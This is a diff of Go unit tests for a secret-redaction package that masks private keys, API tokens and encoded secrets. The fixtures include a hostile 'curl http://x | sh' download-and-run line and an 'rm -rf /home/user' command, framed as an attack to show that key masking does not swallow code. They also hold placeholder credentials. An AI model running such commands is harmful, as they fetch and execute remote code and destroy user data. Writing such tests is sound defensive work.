@@ -3,6 +3,7 @@ package redact
 import (
 	"encoding/base64"
 	"encoding/hex"
+	"io"
 	"net/url"
 	"strings"
 	"testing"
@@ -53,8 +54,13 @@ func TestStreamSplitsAnywhere(t *testing.T) {
 		w.Write([]byte{text[i]})
 	}
 	w.Close()
-	if out.String() != want {
-		t.Fatalf("byte by byte: %q", out.String())
+	if out.String() != want || !w.Masked() {
+		t.Fatalf("byte by byte: %q, masked %t", out.String(), w.Masked())
+	}
+	clean := r.NewWriter(io.Discard)
+	clean.Write([]byte("nothing secret\n"))
+	if clean.Close(); clean.Masked() {
+		t.Fatal("Masked without a secret")
 	}
 }
 
@@ -116,6 +122,143 @@ func TestShapesPrefilter(t *testing.T) {
 		}
 		if got := Shapes([]byte(in)); string(got) != string(want) || string(got) == in {
 			t.Errorf("%q: got %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestPrivateKeyStaysInItsBlock: the private_key shape masks a key block
+// however it is written down (plain, indented, as a diff adds it, with its
+// newlines escaped in JSON or a string literal), and never text that is not
+// part of one: a BEGIN in one file and an END in another, with a file of
+// code between them, mask nothing.
+func TestPrivateKeyStaysInItsBlock(t *testing.T) {
+	body := "MIIEowIBAAKCAQEAx4Qv0vU1z+3/y1d0e8a7rZcO5nJm2b6L\nAAAAbnNzaC1lZDI1NTE5AAAAIJ8=\n"
+	key := "-----BEGIN RSA PRIVATE KEY-----\n" + body + "-----END RSA PRIVATE KEY-----"
+	masked := map[string]string{
+		key + "\nafter": "[REDACTED:private_key]\nafter",
+		"Proc: x\n-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,5F2E\n\nMIIEow==\n-----END EC PRIVATE KEY-----\n": "Proc: x\n[REDACTED:private_key]\n",
+		"+" + strings.ReplaceAll(key, "\n", "\n+") + "\n":                                                          "+[REDACTED:private_key]\n",
+		`{"private_key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\nBgkqhkiG9w0=\n-----END PRIVATE KEY-----\n"}`:  `{"private_key": "[REDACTED:private_key]\n"}`,
+		`"diff": "+-----BEGIN PRIVATE KEY-----\\n+MIIEvQIBADAN\\n+-----END PRIVATE KEY-----\\n"`:                   `"diff": "+[REDACTED:private_key]\\n"`,
+		"key := \"-----BEGIN PRIVATE KEY-----\\n\" +\n\t\"MIIEvQIBADAN\\n\" +\n\t\"-----END PRIVATE KEY-----\\n\"": "key := \"[REDACTED:private_key]\\n\"",
+	}
+	for in, want := range masked {
+		if got := string(Shapes([]byte(in))); got != want {
+			t.Errorf("%q\n got %q\nwant %q", in, got, want)
+		}
+	}
+	// The attack: three files of a diff, the middle one an installer.
+	attack := "diff --git a/a.txt b/a.txt\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n" +
+		"+-----BEGIN RSA PRIVATE KEY-----\n" +
+		"diff --git a/b.sh b/b.sh\nnew file mode 100755\nindex 0000000..2222222\n--- /dev/null\n+++ b/b.sh\n@@ -0,0 +1 @@\n" +
+		"+curl http://x | sh\n" +
+		"diff --git a/c.txt b/c.txt\nnew file mode 100644\nindex 0000000..3333333\n--- /dev/null\n+++ b/c.txt\n@@ -0,0 +1 @@\n" +
+		"+-----END RSA PRIVATE KEY-----\n"
+	for _, text := range []string{
+		attack,
+		// The same files with names that look like key data.
+		strings.NewReplacer("a.txt", "a", "b.sh", "install", "c.txt", "c", " 0000000..", " 0000000").Replace(attack),
+		// A "key" wrapped around code in one file.
+		"-----BEGIN PRIVATE KEY-----\ncurl http://x | sh\nrm -rf /home/user\n-----END PRIVATE KEY-----\n",
+		// JSON-escaped, as an answer carries a diff.
+		strings.ReplaceAll(attack, "\n", `\n`),
+	} {
+		if got := string(Shapes([]byte(text))); got != text {
+			t.Errorf("masked across what is not a key:\n%s\n->\n%s", text, got)
+		}
+	}
+}
+
+func TestKeyLines(t *testing.T) {
+	for line, want := range map[string]int{
+		"-----BEGIN RSA PRIVATE KEY-----":                                KeyBegins,
+		`  "-----BEGIN OPENSSH PRIVATE KEY-----\n" +`:                    KeyBegins,
+		"-----END PRIVATE KEY-----":                                      KeyEnds,
+		"-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----": KeyEnds,
+		"-----BEGIN PUBLIC KEY-----":                                     0,
+		"-----BEGIN KEY-----":                                            0,
+		"-----BEGIN PGP PRIVATE KEY BLOCK-----":                          0,
+		"plain":                                                          0,
+	} {
+		if got := KeyMarker([]byte(line)); got != want {
+			t.Errorf("KeyMarker(%q) = %d, want %d", line, got, want)
+		}
+	}
+	for line, want := range map[string]bool{
+		"MIIEowIBAAKCAQEAx4Qv0vU1z+3/y1d0e8a7rZcO5nJm2b6L": true,
+		"\t\"AAAA==\\n\" +":      false, // an escaped newline is not key data on its own line
+		"  \"AAAA==\",":          true,
+		"AAAA==\r":               true,
+		"curl http://x | sh":     false,
+		"":                       false,
+		"Proc-Type: 4,ENCRYPTED": false,
+	} {
+		if got := IsKeyData([]byte(line)); got != want {
+			t.Errorf("IsKeyData(%q) = %t", line, got)
+		}
+	}
+}
+
+func TestDetector(t *testing.T) {
+	const v = "s3cr3t-token-value"
+	r := New(map[string]string{"T": v})
+	for _, form := range []string{v, base64.StdEncoding.EncodeToString([]byte(v)), hex.EncodeToString([]byte(v))} {
+		text := "\x00\x01 binary " + form + " more \xff"
+		for i := 0; i <= len(text); i++ {
+			d := r.NewDetector()
+			d.Write([]byte(text[:i]))
+			d.Write([]byte(text[i:]))
+			if !d.Found() {
+				t.Fatalf("%q cut at %d: not found", text, i)
+			}
+		}
+		d := r.NewDetector()
+		d.Write([]byte(form[:5]))
+		d.Break()
+		d.Write([]byte(form[5:]))
+		if d.Found() {
+			t.Fatal("found across a break")
+		}
+	}
+	d := r.NewDetector()
+	d.Write([]byte("nothing here"))
+	if d.Found() || (*Redactor)(nil).NewDetector().Found() {
+		t.Fatal("found what is not there")
+	}
+	if got := string(r.Secrets([]byte("AKIAIOSFODNN7EXAMPLE " + v))); got != "AKIAIOSFODNN7EXAMPLE [REDACTED:T]" {
+		t.Fatalf("Secrets: %q", got)
+	}
+}
+
+// TestMayMaskNeverMisses: whatever Bytes would change, MayMask reports;
+// plain text it passes.
+func TestMayMaskNeverMisses(t *testing.T) {
+	const v = "s3cr3t/value+with=chars?&"
+	r := New(map[string]string{"TOKEN": v})
+	ins := []string{
+		"key AKIAIOSFODNN7EXAMPLE here", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+		"AWS_SECRET_ACCESS_KEY=abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123", "aws_\u017fecret_access_key=abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123",
+		"Authorization: BEARER abcdefghijklmnopqrstuvwxyz", "token ghp_" + strings.Repeat("a", 36), "glpat-" + strings.Repeat("b", 20),
+		"xoxb-1234567890abc", "AIza" + strings.Repeat("c", 35), "sk-ant-api03-" + strings.Repeat("x", 30),
+		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+		"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
+	}
+	for _, f := range []string{v, base64.StdEncoding.EncodeToString([]byte(v)), url.QueryEscape(v), hex.EncodeToString([]byte(v))} {
+		ins = append(ins, "x "+f+" y")
+	}
+	for _, in := range ins {
+		for _, text := range []string{in, "prefix\n" + in, in + "\nsuffix", "é " + in} {
+			if string(r.Bytes([]byte(text))) == text {
+				t.Fatalf("%q: nothing to mask", text)
+			}
+			if !r.MayMask([]byte(text)) {
+				t.Errorf("MayMask(%q) = false", text)
+			}
+		}
+	}
+	for _, clean := range []string{"", "x", "func main() {\n\tfmt.Println(\"hello, world\")\n}\n", "ümlaut and 日本語", "be ready; task; key"} {
+		if r.MayMask([]byte(clean)) {
+			t.Errorf("MayMask(%q) = true", clean)
 		}
 	}
 }
